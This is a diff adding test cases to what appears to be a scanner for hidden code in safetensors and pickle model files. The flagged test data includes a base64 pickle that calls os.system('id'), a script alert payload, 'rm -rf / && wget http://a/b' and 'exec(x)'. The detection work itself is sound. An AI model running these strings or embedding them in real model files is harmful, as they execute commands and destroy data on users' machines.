@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import importlib.util
 import io
 import json
@@ -164,6 +165,19 @@ def polyglot() -> bytes:
     return out.getvalue()
 
 
+HELD = base64.b64encode(b"\x80\4cos\nsystem\n(X\2\0\0\0idtR.").decode()
+
+
+def described(text: str) -> bytes:
+    """safetensors with a text in its metadata."""
+    return tensors(
+        (0, 4),
+        raw=json.dumps(
+            {"__metadata__": {"note": text}, "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}
+        ).encode(),
+    )
+
+
 SAFETENSORS = [
     Case("m.safetensors", tensors((0, 8), (8, 12), behind=b"PK\3\4 and so on"), ("safetensors-unaccounted",)),
     Case("m.safetensors", tensors((0, 8), (12, 16)), ("safetensors-unaccounted",)),
@@ -173,10 +187,25 @@ SAFETENSORS = [
     Case("m.safetensors", tensors((0, 8), (0, 8)), ("safetensors-overlap",)),
     Case("m.safetensors", tensors((0, 4), raw=b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'),
          ("safetensors-key-twice",)),
+    *(
+        Case("m.safetensors", described(text), ("safetensors-program",))
+        for text in ("import os; os.system('id')", "<script>alert(1)</script>", "rm -rf / && wget http://a/b", "exec(x)")
+    ),
+    *(Case("m.safetensors", described(text), ("pickle-held",)) for text in (HELD, bytes.hex(base64.b64decode(HELD)))),
 ]  # fmt: skip
 SAFETENSORS_HONEST = [
     Case("m.safetensors", tensors((0, 8), (8, 12), (12, 12))),
     Case("m.safetensors", tensors((0, 8), behind=bytes(64))),
+    *(
+        Case("m.safetensors", described(text))
+        for text in (
+            "trained with import os in mind",
+            "https://example.org/a",
+            "gAAAAABl",
+            "gASVIQAAAAAA",
+            "evaluation (top 1)",
+        )
+    ),
     *(Case(path.name, path.read_bytes()) for path in sorted(DATA.glob("*.safetensors"))),
 ]
 
